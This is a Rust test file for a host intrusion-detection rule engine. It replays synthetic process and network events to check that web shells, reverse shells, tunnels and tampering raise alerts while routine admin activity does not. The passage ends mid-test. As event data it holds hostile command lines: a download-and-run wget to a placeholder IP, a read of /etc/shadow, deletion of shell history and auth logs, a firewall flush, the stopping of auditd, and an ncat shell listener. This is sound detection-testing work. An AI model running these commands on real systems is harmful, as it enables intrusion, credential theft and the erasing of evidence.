//! The engine and the built-in pack over synthetic events: each behaviour
//! must alert, and each benign look-alike must stay quiet.

use serde_json::{json, Value};

use super::{rule, Engine};
use crate::config::Source;

const T0: u64 = 1_764_115_200; // 2025-11-26T00:00:00Z

fn ts(secs: u64) -> String {
    humantime::format_rfc3339_nanos(
        std::time::UNIX_EPOCH + std::time::Duration::from_secs(T0 + secs),
    )
    .to_string()
}

fn ancestry(chain: &[(u64, &str)]) -> Value {
    Value::Array(
        chain
            .iter()
            .map(|(p, e)| json!({"pid": p, "exe": e}))
            .collect(),
    )
}

/// An exec event; `chain` is the ancestry, parent first.
fn exec(t: u64, pid: u64, exe: &str, argv: &[&str], chain: &[(u64, &str)]) -> Value {
    json!({
        "kind": "exec", "ts": ts(t), "pid": pid, "tid": pid,
        "ppid": chain.first().map_or(1, |c| c.0), "uid": 33, "euid": 33, "gid": 33, "egid": 33,
        "comm": argv.first().map_or("x", |a| a.rsplit('/').next().unwrap_or(a)),
        "cgroup_id": 1, "exe": exe, "exe_deleted": false, "exe_truncated": false,
        "argv": argv, "argv_truncated": false, "cwd": "/", "cwd_truncated": false,
        "stdio": ["chardev", "pipe", "pipe"], "ancestry": ancestry(chain),
    })
}

fn with(mut v: Value, key: &str, value: Value) -> Value {
    v[key] = value;
    v
}

fn net(t: u64, kind: &str, pid: u64, exe: &str, chain: &[(u64, &str)], local_port: u16) -> Value {
    json!({
        "kind": kind, "ts": ts(t), "proto": "tcp", "netns": 1, "socket": pid * 10,
        "local": {"addr": "0.0.0.0", "port": local_port},
        "remote": {"addr": "203.0.113.9", "port": 4444},
        "process": {"pid": pid, "comm": "x", "uid": 33, "exe": exe, "argv": [exe], "ancestry": ancestry(chain)},
        "result": "established",
    })
}

/// The tests' events go through the rules as the daemon's do: as typed
/// records, read by the compiled accessors. Lines that are not of the
/// schema go through in their JSON form, as `monitor replay` takes them.
trait Take {
    fn take(&mut self, ev: &Value) -> Vec<super::AlertRecord>;
}

impl Take for Engine {
    fn take(&mut self, ev: &Value) -> Vec<super::AlertRecord> {
        match serde_json::from_value::<crate::event::Event>(ev.clone()) {
            Ok(typed) => self.observe_event(&typed),
            Err(_) => self.observe(ev),
        }
    }
}

/// The helpers make events of the schema, so the tests run the typed path.
#[test]
fn test_events_are_typed_records() {
    let chain = [(100, "/usr/sbin/nginx"), (1, "/sbin/init")];
    for ev in [
        exec(1, 200, "/bin/sh", &["sh", "-c", "id"], &chain),
        net(1, "connect", 200, "/bin/sh", &chain, 5000),
        net(1, "listen", 100, "/usr/sbin/nginx", &chain[1..], 80),
    ] {
        serde_json::from_value::<crate::event::Event>(ev.clone())
            .unwrap_or_else(|e| panic!("{e}: {ev}"));
    }
}

fn builtin() -> Engine {
    Engine::new(rule::load(true, &[]).expect("built-in rules"))
}

/// Rule ids of the alerts the events raise, in order.
fn fired(engine: &mut Engine, events: &[Value]) -> Vec<String> {
    let mut ids = Vec::new();
    for e in events {
        ids.extend(engine.take(e).into_iter().map(|a| a.rule));
    }
    ids
}

const INIT: (u64, &str) = (1, "/usr/lib/systemd/systemd");
const NGINX: (u64, &str) = (100, "/usr/sbin/nginx");
const WORKER: (u64, &str) = (101, "/usr/sbin/nginx");
const SSHD: (u64, &str) = (50, "/usr/sbin/sshd");

/// nginx master listening on :80, as every web-shell scenario starts.
fn web_server(engine: &mut Engine) {
    let listen = net(0, "listen", NGINX.0, NGINX.1, &[INIT], 80);
    assert!(fired(engine, &[listen]).is_empty());
}

#[test]
fn web_shell_spawning_a_shell_alerts() {
    let mut e = builtin();
    web_server(&mut e);
    let sh = exec(
        1,
        200,
        "/usr/bin/dash",
        &["sh", "-c", "id"],
        &[WORKER, NGINX, INIT],
    );
    assert_eq!(fired(&mut e, &[sh]), ["EW-PROC-001"]);
    let id = exec(
        2,
        201,
        "/usr/bin/id",
        &["id"],
        &[(200, "/usr/bin/dash"), WORKER, NGINX, INIT],
    );
    assert_eq!(fired(&mut e, &[id]), ["EW-DISC-001"]);
}

#[test]
fn busybox_applets_are_seen_through() {
    let mut e = builtin();
    web_server(&mut e);
    let sh = exec(
        1,
        200,
        "/bin/busybox",
        &["sh", "-c", "x"],
        &[WORKER, NGINX, INIT],
    );
    assert_eq!(fired(&mut e, &[sh]), ["EW-PROC-001"]);
    let mut e = builtin();
    let wget = exec(
        1,
        300,
        "/bin/busybox",
        &["wget", "http://198.51.100.7/x", "-O", "/tmp/x"],
        &[(250, "/bin/busybox"), INIT],
    );
    let run = exec(
        5,
        301,
        "/tmp/x",
        &["/tmp/x"],
        &[(250, "/bin/busybox"), INIT],
    );
    let ids = fired(&mut e, &[wget, run]);
    assert!(ids.contains(&"EW-PROC-005".to_owned()), "{ids:?}");
}

#[test]
fn admin_ssh_session_stays_quiet() {
    let mut e = builtin();
    let listen = net(0, "listen", SSHD.0, SSHD.1, &[INIT], 22);
    assert!(fired(&mut e, &[listen]).is_empty());
    let session = [(60, "/usr/sbin/sshd"), SSHD, INIT];
    let bash = with(
        exec(1, 70, "/usr/bin/bash", &["-bash"], &session),
        "auid",
        json!(1000),
    );
    let bash = with(bash, "stdio", json!(["tty", "tty", "tty"]));
    let shell = [(70, "/usr/bin/bash"), (60, "/usr/sbin/sshd"), SSHD, INIT];
    let cmds = [
        with(
            exec(2, 71, "/usr/bin/uname", &["uname", "-a"], &shell),
            "auid",
            json!(1000),
        ),
        with(
            exec(3, 72, "/usr/bin/ps", &["ps", "aux"], &shell),
            "auid",
            json!(1000),
        ),
        with(
            exec(4, 73, "/usr/bin/cat", &["cat", "/etc/hosts"], &shell),
            "auid",
            json!(1000),
        ),
    ];
    let mut events = vec![bash];
    events.extend(cmds);
    assert!(fired(&mut e, &events).is_empty());
}

#[test]
fn reverse_shell_with_socket_stdio() {
    let mut e = builtin();
    let sh = with(
        exec(1, 400, "/usr/bin/bash", &["bash", "-i"], &[INIT]),
        "stdio",
        json!(["socket", "socket", "socket"]),
    );
    assert_eq!(fired(&mut e, &[sh]), ["EW-PROC-002"]);
    let py = with(
        exec(
            1,
            401,
            "/usr/bin/python3.11",
            &["python3", "-c", "x"],
            &[INIT],
        ),
        "stdio",
        json!(["socket", "pipe", "pipe"]),
    );
    assert_eq!(fired(&mut e, &[py]), ["EW-PROC-002"]);
    let tty = with(
        exec(1, 402, "/usr/bin/bash", &["bash"], &[INIT]),
        "stdio",
        json!(["tty", "tty", "tty"]),
    );
    assert!(fired(&mut e, &[tty]).is_empty());
}

#[test]
fn execution_from_tmp_memfd_and_deleted_files() {
    let mut e = builtin();
    assert_eq!(
        fired(
            &mut e,
            &[exec(1, 500, "/tmp/.x/agent", &["/tmp/.x/agent"], &[INIT])]
        ),
        ["EW-PROC-003"]
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(1, 501, "/dev/shm/k", &["/dev/shm/k"], &[INIT])]
        ),
        ["EW-PROC-003"]
    );
    assert_eq!(
        fired(&mut e, &[exec(1, 502, "/memfd:x", &["x"], &[INIT])]),
        ["EW-PROC-004"]
    );
    let deleted = with(
        exec(1, 503, "/usr/local/bin/gone", &["gone"], &[INIT]),
        "exe_deleted",
        json!(true),
    );
    assert_eq!(fired(&mut e, &[deleted]), ["EW-PROC-004"]);
    assert!(fired(
        &mut e,
        &[exec(
            1,
            504,
            "/memfd:runc_cloned:/proc/self/exe",
            &["runc"],
            &[INIT]
        )]
    )
    .is_empty());
    assert!(fired(&mut e, &[exec(1, 505, "/usr/bin/true", &["true"], &[INIT])]).is_empty());
}

#[test]
fn masquerading() {
    let mut e = builtin();
    let kthread = exec(1, 600, "/usr/bin/python3.11", &["[kworker/0:1]"], &[INIT]);
    let ids = fired(&mut e, &[kthread]);
    assert!(
        ids.contains(&"EW-PROC-006".to_owned()) && ids.contains(&"EW-PROC-007".to_owned()),
        "{ids:?}"
    );
    let renamed = exec(1, 601, "/usr/bin/socat", &["sshd"], &[INIT]);
    assert_eq!(fired(&mut e, &[renamed]), ["EW-PROC-007"]);
    let python = exec(1, 602, "/usr/bin/python3.11", &["python3"], &[INIT]);
    assert!(fired(&mut e, &[python]).is_empty());
}

#[test]
fn credentials_and_evasion() {
    let mut e = builtin();
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                1,
                700,
                "/usr/bin/cat",
                &["cat", "/etc/shadow"],
                &[INIT]
            )]
        ),
        ["EW-CRED-001"]
    );
    assert!(fired(
        &mut e,
        &[exec(
            1,
            701,
            "/usr/bin/passwd",
            &["passwd", "/etc/shadow"],
            &[INIT]
        )]
    )
    .is_empty());
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                2,
                702,
                "/usr/bin/pkill",
                &["pkill", "-9", "rsyslogd"],
                &[INIT]
            )]
        ),
        ["EW-EVADE-001"]
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                2,
                703,
                "/usr/bin/systemctl",
                &["systemctl", "stop", "auditd"],
                &[INIT]
            )]
        ),
        ["EW-EVADE-001"]
    );
    assert!(fired(
        &mut e,
        &[exec(
            2,
            704,
            "/usr/bin/systemctl",
            &["systemctl", "restart", "nginx"],
            &[INIT]
        )]
    )
    .is_empty());
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                3,
                705,
                "/usr/bin/rm",
                &["rm", "-f", "/root/.bash_history"],
                &[INIT]
            )]
        ),
        ["EW-EVADE-002"]
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                3,
                706,
                "/usr/bin/truncate",
                &["truncate", "-s0", "/var/log/auth.log"],
                &[INIT]
            )]
        ),
        ["EW-EVADE-002"]
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                4,
                707,
                "/usr/sbin/xtables-nft-multi",
                &["iptables", "-F"],
                &[INIT]
            )]
        ),
        ["EW-EVADE-003"]
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                4,
                708,
                "/usr/sbin/nft",
                &["nft", "flush", "ruleset"],
                &[INIT]
            )]
        ),
        ["EW-EVADE-003"]
    );
    assert!(fired(
        &mut e,
        &[exec(
            4,
            709,
            "/usr/sbin/xtables-nft-multi",
            &["iptables", "-L", "-n"],
            &[INIT]
        )]
    )
    .is_empty());
}

#[test]
fn listeners_and_firewall_openings() {
    let mut e = builtin();
    web_server(&mut e);
    // A bind shell below the web server.
    let bind = net(
        1,
        "listen",
        800,
        "/usr/bin/python3.11",
        &[WORKER, NGINX, INIT],
        31337,
    );
    assert_eq!(fired(&mut e, &[bind]), ["EW-NET-001"]);
    // The web server's own listener, and an admin's, stay quiet.
    let admin = with(
        net(
            2,
            "listen",
            801,
            "/usr/bin/python3.11",
            &[(70, "/usr/bin/bash"), SSHD, INIT],
            8000,
        ),
        "process",
        json!({"pid": 801, "exe": "/usr/bin/python3.11", "auid": 1000, "ancestry": ancestry(&[(70, "/usr/bin/bash"), SSHD, INIT])}),
    );
    let mut e2 = builtin();
    let ssh_listen = net(0, "listen", SSHD.0, SSHD.1, &[INIT], 22);
    assert!(fired(&mut e2, &[ssh_listen, admin]).is_empty());
    // Firewall opened, then a listener by a sibling.
    let mut e3 = builtin();
    let rule = exec(
        1,
        900,
        "/usr/sbin/xtables-nft-multi",
        &[
            "iptables", "-I", "INPUT", "-p", "tcp", "--dport", "4444", "-j", "ACCEPT",
        ],
        &[(890, "/usr/bin/bash"), INIT],
    );
    let listen = net(
        10,
        "listen",
        901,
        "/usr/bin/nc.openbsd",
        &[(890, "/usr/bin/bash"), INIT],
        4444,
    );
    assert_eq!(fired(&mut e3, &[rule, listen]), ["EW-NET-002"]);
}

#[test]
fn tunnel_command_lines() {
    let mut e = builtin();
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                1,
                1000,
                "/usr/bin/ssh",
                &["ssh", "-NR", "8080:127.0.0.1:80", "user@203.0.113.5"],
                &[INIT]
            )]
        ),
        ["EW-TUN-001"]
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                1,
                1001,
                "/usr/bin/socat",
                &["socat", "TCP-LISTEN:8443,fork", "TCP:192.0.2.10:443"],
                &[INIT]
            )]
        ),
        ["EW-TUN-001"]
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(
                1,
                1002,
                "/tmp/frpc",
                &["./frpc", "-c", "frpc.ini"],
                &[INIT]
            )]
        ),
        ["EW-PROC-003", "EW-TUN-001"]
    );
    assert!(fired(
        &mut e,
        &[exec(
            1,
            1003,
            "/usr/bin/ssh",
            &["ssh", "admin@192.0.2.1", "uptime"],
            &[INIT]
        )]
    )
    .is_empty());
}

#[test]
fn service_shell_then_outbound_connection_within_a_minute() {
    let mut e = builtin();
    web_server(&mut e);
    let sh = exec(
        1,
        200,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[WORKER, NGINX, INIT],
    );
    let conn = net(
        30,
        "connect_result",
        202,
        "/usr/bin/nc.openbsd",
        &[(200, "/usr/bin/dash"), WORKER, NGINX, INIT],
        40000,
    );
    let ids = fired(&mut e, &[sh, conn]);
    assert_eq!(ids, ["EW-PROC-001", "EW-SEQ-001"]);
    // Too late: outside the window.
    let mut e = builtin();
    web_server(&mut e);
    let sh = exec(
        1,
        300,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[WORKER, NGINX, INIT],
    );
    let conn = net(
        62,
        "connect_result",
        302,
        "/usr/bin/nc.openbsd",
        &[(300, "/usr/bin/dash"), WORKER, NGINX, INIT],
        40001,
    );
    assert_eq!(fired(&mut e, &[sh, conn]), ["EW-PROC-001"]);
}

#[test]
fn benign_look_alikes_stay_quiet() {
    let mut e = builtin();
    web_server(&mut e);
    // nginx reverse proxy: accepts, connects upstream, no processes.
    let accept = net(1, "accept", WORKER.0, WORKER.1, &[NGINX, INIT], 80);
    let upstream = net(
        1,
        "connect_result",
        WORKER.0,
        WORKER.1,
        &[NGINX, INIT],
        41000,
    );
    // A package manager downloading and installing (admin session).
    let apt = [(300, "/usr/bin/apt-get")];
    let install = [
        with(
            exec(
                2,
                300,
                "/usr/bin/apt-get",
                &["apt-get", "install", "-y", "jq"],
                &[(70, "/usr/bin/bash"), INIT],
            ),
            "auid",
            json!(1000),
        ),
        with(
            exec(
                3,
                301,
                "/usr/lib/apt/methods/http",
                &["/usr/lib/apt/methods/http"],
                &apt,
            ),
            "auid",
            json!(1000),
        ),
        with(
            exec(
                4,
                302,
                "/usr/bin/dpkg",
                &[
                    "/usr/bin/dpkg",
                    "--unpack",
                    "/var/cache/apt/archives/jq.deb",
                ],
                &apt,
            ),
            "auid",
            json!(1000),
        ),
    ];
    // cron's health check.
    let cron = [(400, "/usr/sbin/cron"), INIT];
    let health = [
        exec(
            5,
            401,
            "/usr/bin/dash",
            &["/bin/sh", "-c", "curl -fsS http://127.0.0.1/health"],
            &cron,
        ),
        exec(
            5,
            402,
            "/usr/bin/curl",
            &["curl", "-fsS", "http://127.0.0.1/health"],
            &[(401, "/usr/bin/dash"), (400, "/usr/sbin/cron"), INIT],
        ),
    ];
    // logrotate from cron, and a DHCP client's hook script.
    let rotate = exec(
        6,
        410,
        "/usr/sbin/logrotate",
        &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
        &cron,
    );
    let dhcp = [(500, "/sbin/dhclient"), INIT];
    let hooks = [
        exec(
            7,
            501,
            "/usr/bin/dash",
            &["/bin/sh", "/sbin/dhclient-script"],
            &dhcp,
        ),
        exec(
            7,
            502,
            "/usr/bin/ip",
            &["ip", "-4", "addr", "add", "192.0.2.20/24", "dev", "eth0"],
            &[(501, "/usr/bin/dash"), (500, "/sbin/dhclient"), INIT],
        ),
    ];
    let mut events = vec![accept, upstream];
    events.extend(install);
    events.extend(health);
    events.push(rotate);
    events.extend(hooks);
    assert!(fired(&mut e, &events).is_empty());
}

#[test]
fn repeats_fold_into_one_alert_with_a_count() {
    let mut e = builtin();
    let ids = fired(
        &mut e,
        &[
            exec(1, 10, "/tmp/a", &["/tmp/a"], &[(5, "/usr/bin/bash"), INIT]),
            exec(2, 11, "/tmp/a", &["/tmp/a"], &[(5, "/usr/bin/bash"), INIT]),
            exec(3, 12, "/tmp/a", &["/tmp/a"], &[(5, "/usr/bin/bash"), INIT]),
        ],
    );
    assert_eq!(ids, ["EW-PROC-003"]);
    assert_eq!(e.stats.deduplicated.get("EW-PROC-003"), Some(&2));
    let flushed = e.flush();
    assert_eq!(flushed.len(), 1);
    assert!(flushed[0].repeat);
    assert_eq!(flushed[0].count, 3);
    // The window ends dedup_secs (60 by default) after the first match.
    let at = |t: &str| humantime::parse_rfc3339(t).expect("RFC 3339");
    let end = flushed[0].window_end.as_deref().expect("window end");
    assert_eq!(
        at(end).duration_since(at(&flushed[0].ts)).ok(),
        Some(std::time::Duration::from_secs(60))
    );
    // A later window raises a fresh alert.
    let later = exec(
        200,
        13,
        "/tmp/a",
        &["/tmp/a"],
        &[(5, "/usr/bin/bash"), INIT],
    );
    assert_eq!(fired(&mut e, &[later]), ["EW-PROC-003"]);
}

/// A second, different command injected through the same service while
/// its alert is open is written at once as an update, with the new command
/// and the alert's id and count; the same command again only counts.
#[test]
fn a_new_command_in_an_open_alert_is_an_update_and_the_same_one_folds() {
    let mut e = builtin();
    web_server(&mut e);
    let chain = [WORKER, NGINX, INIT];
    let sh = |t, pid, cmd: &str| exec(t, pid, "/bin/busybox", &["sh", "-c", cmd], &chain);
    let first = e.take(&sh(1, 200, "id"));
    let alert = first
        .iter()
        .find(|a| a.rule == "EW-PROC-001")
        .expect("web shell alert");
    assert!(!alert.update);
    // The same command again: counted, no line.
    assert!(e
        .take(&sh(2, 201, "id"))
        .iter()
        .all(|a| a.rule != "EW-PROC-001"));
    // Another command: an update line of the same alert.
    let second = e.take(&sh(3, 202, "wget http://198.51.100.7/x -O /dev/shm/x"));
    let update = second
        .iter()
        .find(|a| a.rule == "EW-PROC-001")
        .expect("an update for the new command");
    assert!(update.update);
    assert_eq!(update.alert_id, alert.alert_id);
    assert_eq!(update.count, 3);
    assert_eq!(update.process["pid"], 202);
    assert_eq!(update.evidence.len(), 1);
    assert_eq!(
        update.evidence[0]["argv"][2],
        "wget http://198.51.100.7/x -O /dev/shm/x"
    );
    // And that one again folds too.
    let again = e.take(&sh(4, 203, "wget http://198.51.100.7/x -O /dev/shm/x"));
    assert!(again.iter().all(|a| a.rule != "EW-PROC-001"));
    let flushed = e.flush();
    let closing = flushed
        .iter()
        .find(|a| a.rule == "EW-PROC-001")
        .expect("closing line");
    assert!(closing.repeat && !closing.update);
    assert_eq!(closing.count, 4);
}

/// Connections of one process to another peer are new evidence; to the
/// same peer they fold.
#[test]
fn a_new_peer_is_new_evidence() {
    let rules = rule::parse(&Source {
        name: "t.toml",
        text: r#"
[[rule]]
id = "T-1"
title = "t"
severity = "low"
kinds = ["connect_result"]
match = [{ field = "result", equals = "established" }]
"#,
    })
    .expect("rule");
    let mut e = Engine::new(rules);
    let conn = |t, port: u16| {
        let mut v = net(t, "connect_result", 300, "/usr/bin/curl", &[INIT], 40000);
        v["remote"]["port"] = port.into();
        v
    };
    assert_eq!(e.take(&conn(1, 443)).len(), 1);
    assert!(e.take(&conn(2, 443)).is_empty(), "same peer folds");
    let update = e.take(&conn(3, 8443));
    assert_eq!(update.len(), 1);
    assert!(update[0].update);
}

#[test]
fn rate_limits_count_what_they_hold_back() {
    let text = r#"
[[rule]]
id = "T-1"
title = "any exec"
severity = "info"
attack = ["T1059"]
kinds = ["exec"]
dedup_secs = 0
rate_limit = { max = 2, per_secs = 60 }
"#;
    let rules = rule::parse(&Source {
        name: "t.toml",
        text,
    })
    .expect("rule");
    let mut e = Engine::new(rules);
    let events: Vec<Value> = (0..5)
        .map(|i| exec(i, 10 + i, "/usr/bin/true", &["true"], &[INIT]))
        .collect();
    assert_eq!(fired(&mut e, &events).len(), 2);
    assert_eq!(e.stats.rate_limited.get("T-1"), Some(&3));
    assert_eq!(
        fired(&mut e, &[exec(70, 99, "/usr/bin/true", &["true"], &[INIT])]).len(),
        1
    );
}

#[test]
fn alert_names_process_connections_and_evidence() {
    let mut e = builtin();
    web_server(&mut e);
    let sh = exec(
        1,
        200,
        "/usr/bin/dash",
        &["sh", "-c", "x"],
        &[WORKER, NGINX, INIT],
    );
    let conn = net(
        2,
        "connect_result",
        200,
        "/usr/bin/dash",
        &[WORKER, NGINX, INIT],
        40000,
    );
    let mut alerts = e.take(&sh);
    alerts.extend(e.take(&conn));
    let seq = alerts
        .iter()
        .find(|a| a.rule == "EW-SEQ-001")
        .expect("sequence alert");
    let v = serde_json::to_value(seq).expect("json");
    assert_eq!(v["severity"], "critical");
    assert_eq!(v["attack"][0], "T1190");
    assert_eq!(v["process"]["pid"], 200);
    assert_eq!(v["process"]["ancestry"][1]["pid"], 100);
    assert_eq!(v["connections"][0]["remote"]["port"], 4444);
    assert_eq!(v["evidence"].as_array().map(Vec::len), Some(2));
    assert_eq!(v["lineage"], 100, "the nginx master is the lineage");
    assert_eq!(v["count"], 1);
}

#[test]
fn exceptions_and_combinators() {
    let text = r#"
[[rule]]
id = "T-2"
title = "t"
severity = "low"
attack = ["T1059"]
kinds = ["exec"]
match = [
    { any = [{ field = "exe", suffix = "/nc" }, { field = "exe", glob = "/opt/*/bin/nc*" }] },
    { not = { field = "uid", equals = 0 } },
]
except = [{ field = "argv", contains = "--safe" }]
"#;
    let rules = rule::parse(&Source {
        name: "t.toml",
        text,
    })
    .expect("rule");
    let mut e = Engine::new(rules);
    assert_eq!(
        fired(&mut e, &[exec(1, 1, "/usr/bin/nc", &["nc"], &[INIT])]).len(),
        1
    );
    assert_eq!(
        fired(
            &mut e,
            &[exec(1, 2, "/opt/x/bin/ncat", &["ncat"], &[(3, "/x")])]
        )
        .len(),
        1
    );
    assert!(fired(
        &mut e,
        &[exec(1, 4, "/usr/bin/nc", &["nc", "--safe"], &[(5, "/y")])]
    )
    .is_empty());
    assert!(fired(
        &mut e,
        &[with(
            exec(1, 6, "/usr/bin/nc", &["nc"], &[(7, "/z")]),
            "uid",
            json!(0)
        )]
    )
    .is_empty());
}

#[test]
fn php_fpm_behind_a_unix_socket_counts_as_a_service() {
    let mut e = builtin();
    // php-fpm listens on a unix socket: no TCP listener, but its name says
    // what it is.
    let fpm = [
        (150, "/usr/sbin/php-fpm8.2"),
        (149, "/usr/sbin/php-fpm8.2"),
        INIT,
    ];
    let sh = exec(1, 160, "/usr/bin/dash", &["sh", "-c", "uname -a"], &fpm);
    assert_eq!(fired(&mut e, &[sh]), ["EW-PROC-001"]);
    // Another worker of the same master serves the next request: the same
    // lineage, so the new command is an update of the open alert.
    let other = [
        (151, "/usr/sbin/php-fpm8.2"),
        (149, "/usr/sbin/php-fpm8.2"),
        INIT,
    ];
    let next = exec(2, 161, "/usr/bin/dash", &["sh", "-c", "id -u"], &other);
    let alerts = e.take(&next);
    assert_eq!(alerts.len(), 1);
    assert!(
        alerts[0].update,
        "the second worker's shell updates the first alert"
    );
    assert_eq!(alerts[0].lineage, 149, "the php-fpm master is the lineage");
}

/// Conditions on ancestors may bound how far up they look: a launcher far
/// above (a sandbox's runner in a memfd) says nothing about a command.
#[test]
fn ancestor_depth_bounds_a_condition() {
    let far = [
        (40, "/usr/bin/dash"),
        (39, "/usr/bin/dash"),
        (38, "/usr/bin/bash"),
        (37, "/memfd:sealed-runner"),
        INIT,
    ];
    let near = [(40, "/tmp/.x/implant"), (39, "/usr/bin/dash"), INIT];
    let burst = |chain: &[(u64, &str)], pid0: u64| -> Vec<Value> {
        [
            &["uname", "-a"][..],
            &["ip", "addr"],
            &["ss", "-tan"],
            &["id"],
        ]
        .iter()
        .enumerate()
        .map(|(i, argv)| {
            exec(
                i as u64 + 1,
                pid0 + i as u64,
                &format!("/usr/bin/{}", argv[0]),
                argv,
                chain,
            )
        })
        .collect()
    };
    let mut e = builtin();
    assert!(fired(&mut e, &burst(&far, 300)).is_empty());
    let mut e = builtin();
    assert!(fired(&mut e, &burst(&near, 400)).contains(&"EW-DISC-004".to_owned()));
}

#[test]
fn shell_served_through_ncat_pipes() {
    let mut e = builtin();
    // `ncat -l 5555 -e /bin/sh`: the shell's streams are pipes to ncat.
    let sh = with(
        exec(
            1,
            170,
            "/usr/bin/dash",
            &["/bin/sh"],
            &[(169, "/usr/bin/ncat"), INIT],
        ),
        "stdio",
        json!(["pipe", "pipe", "pipe"]),
    );
    assert!(fired(&mut e, &[sh]).contains(&"EW-PROC-002".to_owned()));
    // A shell in a pipeline of an admin's terminal stays out of it.
    let piped = with(
        exec(
            2,
            171,
            "/usr/bin/dash",
            &["sh"],
            &[(70, "/usr/bin/bash"), INIT],
        ),
        "stdio",
        json!(["pipe", "pipe", "tty"]),
    );
    assert!(fired(&mut e, &[piped]).is_empty());
}

#[test]
fn listener_below_php_fpm_alerts() {
    let mut e = builtin();
    let fpm = [
        (181, "/usr/bin/dash"),
        (150, "/usr/sbin/php-fpm8.2"),
        (149, "/usr/sbin/php-fpm8.2"),
        INIT,
    ];
    let bind = net(1, "listen", 182, "/usr/bin/ncat", &fpm, 7777);
    assert_eq!(fired(&mut e, &[bind]), ["EW-NET-001"]);
    // An nginx binary upgrade: the new master listens below the old one.
    let upgrade = net(2, "listen", 102, "/usr/sbin/nginx", &[NGINX, INIT], 80);
    assert_eq!(fired(&mut e, &[upgrade]), Vec::<String>::new());
}

/// The last nanosecond a u64 of nanoseconds since the epoch holds: what
/// the daemon stamps a kernel record whose boot time is out of range with.
const END_OF_TIME: &str = "2554-07-21T23:34:33.709551615Z";

/// Found by the `kernel_records` fuzz target: a window opened at the end
/// of time overflowed when its end was computed.
#[test]
fn events_at_the_end_of_time_open_windows_without_overflow() {
    let mut e = builtin();
    let dropped = |t: Value| with(exec(0, 7, "/tmp/x", &["/tmp/x"], &[INIT]), "ts", t);
    assert_eq!(fired(&mut e, &[dropped(json!(ts(0)))]), vec!["EW-PROC-003"]);
    let late = dropped(json!(END_OF_TIME));
    assert_eq!(
        fired(&mut e, std::slice::from_ref(&late)),
        vec!["EW-PROC-003"]
    );
    assert!(fired(&mut e, &[late]).is_empty(), "folded into the window");
}

/// Times later than a u64 of nanoseconds holds saturate: they used to
/// wrap around to a time before the window they come after.
#[test]
fn times_past_the_end_of_time_saturate() {
    let mut e = builtin();
    let dropped = |t: Value| with(exec(0, 7, "/tmp/x", &["/tmp/x"], &[INIT]), "ts", t);
    assert_eq!(fired(&mut e, &[dropped(json!(ts(0)))]), vec!["EW-PROC-003"]);
    assert_eq!(
        fired(&mut e, &[dropped(json!("2600-01-01T00:00:00Z"))]),
        vec!["EW-PROC-003"],
        "centuries after the window, not inside it"
    );
}

/// Found by the rule property tests: windows, rate-limit periods and
/// sequence deadlines of seconds beyond what u64 nanoseconds hold
/// overflowed; they are "forever" instead.
#[test]
fn huge_rule_durations_are_forever() {
    let rules = rule::parse(&Source {
        name: "r.toml",
        text: "[[rule]]\nid = \"X\"\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"exec\"]\n\
               dedup_secs = 9223372036854775807\n\
               rate_limit = { max = 5, per_secs = 9223372036854775807 }\n\
               [[rule]]\nid = \"Y\"\ntitle = \"t\"\nseverity = \"low\"\ndedup_secs = 0\n\
               [rule.sequence]\nwithin_secs = 9223372036854775807\n\
               steps = [{ kinds = [\"exec\"] }, { kinds = [\"exit\"] }]\n",
    })
    .expect("rules parse");
    let mut e = Engine::new(rules);
    let first = exec(0, 7, "/bin/true", &["true"], &[INIT]);
    let again = exec(1_000_000, 7, "/bin/true", &["true"], &[INIT]);
    let exit = json!({"kind": "exit", "ts": ts(2_000_000), "pid": 7, "ppid": 1});
    assert_eq!(fired(&mut e, &[first]), vec!["X"]);
    assert!(fired(&mut e, &[again]).is_empty(), "folded into the window");
    assert_eq!(fired(&mut e, &[exit]), vec!["Y"]);
}

#[test]
fn the_monitors_own_events_raise_nothing() {
    let mut e = builtin();
    let own = u64::from(std::process::id());
    let listen = json!({
        "kind": "listen", "ts": ts(1_000_000), "proto": "tcp",
        "local": {"addr": "127.0.0.1", "port": 9810},
        "process": {"pid": own, "exe": "/tmp/monitor", "argv": ["/tmp/monitor", "run"], "ancestry": []},
    });
    assert!(fired(&mut e, std::slice::from_ref(&listen)).is_empty());
    let mut other = listen;
    other["process"]["pid"] = json!(own + 1);
    assert_eq!(
        fired(&mut e, &[other]),
        ["EW-NET-001"],
        "the same from another process alerts"
    );
}

#[test]
fn a_detached_shell_keeps_its_service_in_the_ancestry_and_its_own_lineage() {
    let mut e = builtin();
    web_server(&mut e);
    // The worker forked the shell and exited; init adopted it.
    let mut chain = ancestry(&[WORKER, NGINX, INIT]);
    chain[0]["reparented"] = json!(true);
    let sh = exec(1, 300, "/usr/bin/dash", &["sh", "-c", "x"], &[]);
    let sh = with(with(sh, "ancestry", chain), "ppid", json!(1));
    let alerts = e.take(&sh);
    let web = alerts
        .iter()
        .find(|a| a.rule == "EW-PROC-001")
        .expect("the service is still an ancestor");
    assert_eq!(
        web.lineage, 300,
        "a detached process is a lineage of its own"
    );
}

#[test]
fn windows_end_on_later_events_each_at_its_own_time() {
    let mut e = builtin();
    let a = |t, pid| exec(t, pid, "/tmp/a", &["/tmp/a"], &[(5, "/usr/bin/bash"), INIT]);
    let b = |t, pid| exec(t, pid, "/tmp/b", &["/tmp/b"], &[(6, "/usr/bin/bash"), INIT]);
    // Two lineages, each with a repeat: windows end at 60 s and 90 s.
    fired(&mut e, &[a(0, 10), a(1, 11), b(30, 20), b(31, 21)]);
    let quiet = |t| {
        exec(
            t,
            30,
            "/usr/bin/true",
            &["true"],
            &[(7, "/usr/bin/bash"), INIT],
        )
    };
    let repeats = |alerts: Vec<super::AlertRecord>| -> Vec<(String, u64)> {
        alerts
            .into_iter()
            .filter(|x| x.repeat)
            .map(|x| {
                (
                    x.process["exe"].as_str().unwrap_or_default().to_owned(),
                    x.count,
                )
            })
            .collect()
    };
